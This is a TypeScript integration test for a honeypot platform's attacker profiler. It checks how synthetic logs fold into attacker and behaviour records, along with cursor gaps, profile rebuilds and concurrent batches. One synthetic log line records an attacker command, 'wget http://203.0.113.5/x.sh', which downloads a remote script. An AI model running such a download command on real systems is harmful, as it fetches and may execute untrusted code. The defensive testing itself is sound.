// The profiler batch against real Postgres: what an attacker row holds after folding synthetic
// logs, that small batches give exactly what one big batch gives, that a row committed late
// under a lower id is not lost, that profiles are rebuilt when their accumulator is gone, and
// that two profilers never fold the same rows.
import { silentLogger } from '@decnet/core';
import { testConfig } from '@decnet/core/testing';
import { openDatabase, type Database } from '@decnet/db';
import { migratedScratchDatabase } from '@decnet/db/testing';
import type { ScratchDatabase } from '@decnet/testing/postgres';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CursorCorruptError } from './errors.js';
import { CURSOR_STATE_KEY } from './handlers/cursor.js';
import { runBatch, type BatchResult } from './store.js';
import { insertLogs, resetTables, type SyntheticLog } from './test-kit.fixture.js';

let scratch: ScratchDatabase;
let database: Database;

beforeAll(async () => {
  ({ scratch, database } = await migratedScratchDatabase());
});
afterAll(async () => {
  await database.close();
  await scratch.drop();
});
beforeEach(async () => {
  await resetTables(database.pool);
});

const GRACE = 60_000;
const T0 = Date.parse('2026-05-02T06:00:00Z');

/** Runs batches until one reads nothing new. */
async function drain(batchSize = 1000, now = Date.now()): Promise<BatchResult[]> {
  const results: BatchResult[] = [];
  for (;;) {
    const r = await runBatch(database.pool, batchSize, GRACE, now);
    results.push(r);
    if (r.newRows < batchSize) return results;
  }
}

interface AttackerRow {
  ip: string;
  first_seen: Date;
  last_seen: Date;
  event_count: number;
  service_count: number;
  decky_count: number;
  services: string[];
  deckies: string[];
  traversal_path: string | null;
  is_traversal: boolean;
  bounty_count: number;
  credential_count: number;
  fingerprints: unknown[];
  commands: { command: string }[];
  behavior_class: string;
  tool_guesses: string[];
  timing_stats: Record<string, unknown>;
  phase_sequence: Record<string, unknown>;
  profile_state: unknown;
}

async function attackers(): Promise<Map<string, AttackerRow>> {
  const r = await database.pool.query<AttackerRow>(
    `SELECT a.ip, a.first_seen, a.last_seen, a.event_count, a.service_count, a.decky_count, a.services, a.deckies,
            a.traversal_path, a.is_traversal, a.bounty_count, a.credential_count, a.fingerprints, a.commands,
            b.behavior_class, b.tool_guesses, b.timing_stats, b.phase_sequence, b.profile_state
     FROM attackers a JOIN attacker_behavior b ON b.attacker_uuid = a.uuid ORDER BY a.ip`,
  );
  // The accumulator lives in profile_state only, never in the shown timing_stats.
  for (const row of r.rows) expect(row.timing_stats).not.toHaveProperty('_state');
  // The accumulator's internals (ids, float summation order) may differ; its outputs may not.
  return new Map(r.rows.map((row) => [row.ip, { ...row, profile_state: undefined }]));
}

/** A mixed workload: a traversing attacker, a brute forcer, a scanner, noise that must be skipped. */
function workload(): SyntheticLog[] {
  const rows: SyntheticLog[] = [];
  const traverser = '198.51.100.10';
  rows.push({ at: T0, ip: traverser, decky: 'decky-01', service: 'ssh', eventType: 'auth_failure' });
  rows.push({ at: T0 + 30_000, ip: traverser, decky: 'decky-03', service: 'ssh', eventType: 'login' });
  rows.push({
    at: T0 + 60_000,
    ip: traverser,
    decky: 'decky-03',
    service: 'ssh',
    eventType: 'command',
    msg: 'CMD uid=0 user=root src=198.51.100.10 pwd=/root cmd=wget http://203.0.113.5/x.sh',
  });
  rows.push({ at: T0 + 90_000, ip: traverser, decky: 'decky-02', service: 'http', eventType: 'request', fields: { headers: '{"User-Agent":"curl/8.0"}' } });
  for (let i = 0; i < 40; i++) rows.push({ at: T0 + i * 1_500, ip: '198.51.100.20', service: 'ssh', eventType: 'auth_attempt' });
  const services = ['ssh', 'http', 'ftp', 'smtp', 'redis'];
  for (let i = 0; i < 10; i++) rows.push({ at: T0 + i * 500, ip: '198.51.100.30', service: services[i % 5] as string, eventType: 'connection' });
  rows.push({ at: T0, ip: 'Unknown', eventType: 'auth_attempt' });
  rows.push({ at: T0, ip: '198.51.100.20', decky: 'decnet-prober', service: 'prober', eventType: 'jarm_fingerprint' });
  rows.push({ at: T0 + 5, ip: '198.51.100.30', service: 'smtp', eventType: 'rcpt_to', fields: { value: '<ceo@victim.example.org>' } });
  return rows;
}

describe('a batch folds logs rows into attacker and behaviour rows', () => {
  it('counts events, services and deckies, builds the traversal path and classifies behaviour', async () => {
    await insertLogs(database.pool, workload());
    await database.pool.query(
      `INSERT INTO bounty (decky, service, attacker_ip, bounty_type, payload) VALUES
         ('decky-01', 'ssh', '198.51.100.10', 'fingerprint', '{"fingerprint_type":"hassh","hash":"abc"}'),
         ('decky-01', 'ssh', '198.51.100.10', 'ip_leak', '{"ip":"10.0.0.1"}')`,
    );
    await database.pool.query(
      `INSERT INTO credentials (attacker_ip, decky_name, service, secret_sha256) VALUES
         ('198.51.100.20', 'decky-01', 'ssh', 'a'), ('198.51.100.20', 'decky-01', 'ssh', 'b')`,
    );
    const [result] = await drain();
    expect(result?.events).toBe(55);
    expect(result?.skipped).toEqual({ no_attacker_ip: 1, internal_host: 1 });
    const rows = await attackers();
    expect([...rows.keys()]).toEqual(['198.51.100.10', '198.51.100.20', '198.51.100.30']);

    const t = rows.get('198.51.100.10') as AttackerRow;
    expect(t).toMatchObject({
      event_count: 4,
      service_count: 2,
      services: ['http', 'ssh'],
      decky_count: 3,
      deckies: ['decky-01', 'decky-03', 'decky-02'],
      traversal_path: 'decky-01 → decky-03 → decky-02',
      is_traversal: true,
      bounty_count: 2,
      credential_count: 0,
      fingerprints: [{ fingerprint_type: 'hassh', hash: 'abc' }],
      tool_guesses: ['curl'],
    });
    expect(t.commands.map((c) => c.command)).toEqual(['wget http://203.0.113.5/x.sh']);
    expect(t.first_seen.getTime()).toBe(T0);
    expect(t.last_seen.getTime()).toBe(T0 + 90_000);
    expect(t.phase_sequence).toMatchObject({ recon_end_ts: new Date(T0).toISOString(), exfil_start_ts: new Date(T0 + 60_000).toISOString(), exfil_latency_s: 60 });
    expect(t.timing_stats).toMatchObject({ mean: 30, stdev: 0, event_count: 4, duration_s: 90 });

    const b = rows.get('198.51.100.20') as AttackerRow;
    expect(b).toMatchObject({ event_count: 40, services: ['ssh'], is_traversal: false, traversal_path: null, credential_count: 2, behavior_class: 'brute_force' });
    expect(rows.get('198.51.100.30')).toMatchObject({ behavior_class: 'scanning', service_count: 5, event_count: 11 });

    const linked = await database.pool.query(`SELECT count(*)::int AS n FROM credentials WHERE attacker_uuid IS NOT NULL`);
    expect(linked.rows[0].n).toBe(2);
    const smtp = await database.pool.query(`SELECT domain, count FROM smtp_targets`);
    expect(smtp.rows).toEqual([{ domain: 'victim.example.org', count: 1 }]);
  });

  it('gives exactly the same rows whether the logs are folded in batches of 3 or all at once', async () => {
    const rows = workload();
    await insertLogs(database.pool, rows);
    await drain(1000);
    const whole = await attackers();
    await resetTables(database.pool);
    await insertLogs(database.pool, rows);
    const results = await drain(3);
    expect(results.length).toBeGreaterThan(15);
    expect(await attackers()).toEqual(whole);
  });

  it('folds events that arrive out of time order into the same profile as in-order events', async () => {
    const rows: SyntheticLog[] = Array.from({ length: 60 }, (_, i) => ({ at: T0 + i * 7_000 + (i % 3) * 900, ip: '203.0.113.7', decky: `decky-0${(i % 3) + 1}` }));
    await insertLogs(database.pool, rows);
    await drain(1000);
    const ordered = await attackers();
    await resetTables(database.pool);
    // Reverse chunks of 10: every batch brings events older than what is already stored.
    const shuffled = [5, 4, 3, 2, 1, 0].flatMap((c) => rows.slice(c * 10, c * 10 + 10));
    for (let c = 0; c < 6; c++) {
      await insertLogs(database.pool, shuffled.slice(c * 10, c * 10 + 10));
      await drain(7);
    }
    expect(await attackers()).toEqual(ordered);
  });

  it('does nothing and keeps the cursor when there are no new rows', async () => {
    await insertLogs(database.pool, workload());
    await drain();
    const before = await attackers();
    const r = await runBatch(database.pool, 1000, GRACE, Date.now());
    expect(r).toMatchObject({ rows: 0, events: 0, observed: [], scored: [] });
    expect(await attackers()).toEqual(before);
  });
});

describe('the cursor never loses a row committed late under a lower id', () => {
  it('folds in a row whose transaction committed after a higher id was processed', async () => {
    const slow = await database.pool.connect();
    try {
      await slow.query('BEGIN');
      const [lowId] = await insertLogs(slow, [{ at: T0, ip: '192.0.2.50', decky: 'decky-09' }]);
      const [highId] = await insertLogs(database.pool, [{ at: T0 + 1_000, ip: '192.0.2.50', decky: 'decky-01' }]);
      expect(lowId).toBeLessThan(highId as number);
      const first = await runBatch(database.pool, 1000, GRACE, Date.now());
      expect(first.cursor.lastLogId).toBe(highId);
      expect(first.cursor.gaps).toEqual([expect.objectContaining({ lo: lowId, hi: lowId })]);
      expect((await attackers()).get('192.0.2.50')).toMatchObject({ event_count: 1, deckies: ['decky-01'] });
      await slow.query('COMMIT');
    } finally {
      slow.release();
    }
    const second = await runBatch(database.pool, 1000, GRACE, Date.now());
    expect(second.rows).toBe(1);
    expect(second.cursor.gaps).toEqual([]);
    expect((await attackers()).get('192.0.2.50')).toMatchObject({ event_count: 2, deckies: ['decky-09', 'decky-01'], traversal_path: 'decky-09 → decky-01' });
  });

  it('forgets a rolled-back id after the grace period', async () => {
    const slow = await database.pool.connect();
    try {
      await slow.query('BEGIN');
      await insertLogs(slow, [{ at: T0, ip: '192.0.2.51' }]);
      await insertLogs(database.pool, [{ at: T0, ip: '192.0.2.51' }]);
      const now = Date.now();
      expect((await runBatch(database.pool, 1000, GRACE, now)).cursor.gaps).toHaveLength(1);
      await slow.query('ROLLBACK');
      const later = await runBatch(database.pool, 1000, GRACE, now + GRACE + 1);
      expect(later.cursor.gaps).toEqual([]);
      expect(later.abandonedIds).toBe(1);
    } finally {
      slow.release();
    }
  });
});

describe('a profile whose accumulator is gone is rebuilt from the stored history', () => {
  it('rebuilds after the attacker row was deleted, counting its whole history', async () => {
    const ip = '192.0.2.60';
    await insertLogs(database.pool, Array.from({ length: 30 }, (_, i) => ({ at: T0 + i * 1_000, ip })));
    await drain(8);
    await database.pool.query('DELETE FROM attackers WHERE ip = $1', [ip]);
    await insertLogs(database.pool, [{ at: T0 + 31_000, ip, decky: 'decky-02' }]);
    const [r] = await drain();
    expect(r).toMatchObject({ rebuilt: 1, attackersInserted: 1 });
    expect(r?.observed[0]?.payload.first_seen).toBe(new Date(T0).toISOString());
    expect((await attackers()).get(ip)).toMatchObject({ event_count: 31, deckies: ['decky-01', 'decky-02'] });
  });

  it('rebuilds when the stored accumulator was tampered with', async () => {
    const ip = '192.0.2.61';
    await insertLogs(database.pool, Array.from({ length: 12 }, (_, i) => ({ at: T0 + i * 2_000, ip })));
    await drain(5);
    const good = (await attackers()).get(ip);
    await database.pool.query(`UPDATE attacker_behavior SET profile_state = '"garbage"'`);
    await insertLogs(database.pool, [{ at: T0 + 24_000, ip }]);
    const [r] = await drain();
    expect(r?.rebuilt).toBe(1);
    const rebuilt = (await attackers()).get(ip);
    expect(rebuilt?.event_count).toBe(13);
    expect(rebuilt?.timing_stats).toMatchObject({ mean: 2, event_count: 13 });
    expect(good?.event_count).toBe(12);
  });

  it('keeps the accumulator in profile_state and reads it from nowhere else', async () => {
    const ip = '192.0.2.63';
    await insertLogs(database.pool, Array.from({ length: 6 }, (_, i) => ({ at: T0 + i * 3_000, ip })));
    await drain();
    const stored = async () =>
      (await database.pool.query<{ profile_state: { v: number; timing: { n: number } } | null; timing_stats: Record<string, unknown> }>(
        'SELECT b.profile_state, b.timing_stats FROM attacker_behavior b JOIN attackers a ON a.uuid = b.attacker_uuid WHERE a.ip = $1',
        [ip],
      )).rows[0];
    expect((await stored())?.profile_state).toMatchObject({ v: 1, timing: { n: 6 } });
    // An incremental batch folds into it without touching the history.
    await insertLogs(database.pool, [{ at: T0 + 18_000, ip }]);
    expect((await drain())[0]).toMatchObject({ rebuilt: 0, attackersUpdated: 1 });
    expect((await stored())?.profile_state).toMatchObject({ timing: { n: 7 } });
    // A pre-0002 layout (accumulator under timing_stats._state) is not read: the profile is rebuilt.
    await database.pool.query(
      `UPDATE attacker_behavior SET timing_stats = timing_stats || jsonb_build_object('_state', profile_state), profile_state = NULL`,
    );
    await insertLogs(database.pool, [{ at: T0 + 21_000, ip }]);
    expect((await drain())[0]?.rebuilt).toBe(1);
    const after = await stored();
    expect(after?.profile_state).toMatchObject({ timing: { n: 8 } });
    expect(after?.timing_stats).not.toHaveProperty('_state');
    expect(after?.timing_stats).toMatchObject({ mean: 3, event_count: 8 });
  });

  it('refuses to run on a corrupt cursor instead of counting everything again', async () => {
    await insertLogs(database.pool, [{ at: T0, ip: '192.0.2.62' }]);
    await database.pool.query(`INSERT INTO state (key, value) VALUES ($1, '{"position": 9}')`, [CURSOR_STATE_KEY]);
    await expect(runBatch(database.pool, 1000, GRACE, Date.now())).rejects.toBeInstanceOf(CursorCorruptError);
    expect((await attackers()).size).toBe(0);
  });
});

describe('two profilers never fold the same rows', () => {
  it('serialises concurrent batches so every event is counted once', async () => {
    const other = await openDatabase(testConfig({ DATABASE_URL: scratch.url }), silentLogger, { retry: false, poolMax: 2 });
    try {
      const ips = ['192.0.2.70', '192.0.2.71', '192.0.2.72'];
      await insertLogs(
        database.pool,
        Array.from({ length: 600 }, (_, i) => ({ at: T0 + i * 100, ip: ips[i % 3] as string, decky: `decky-0${i % 4}` })),
      );
      const loop = async (pool: typeof database.pool): Promise<void> => {
        for (;;) if ((await runBatch(pool, 25, GRACE, Date.now())).newRows === 0) return;
      };
      await Promise.all([loop(database.pool), loop(other.pool)]);
      const rows = await attackers();
      expect(ips.map((ip) => rows.get(ip)?.event_count)).toEqual([200, 200, 200]);
    } finally {
      await other.close();
    }
  });
});
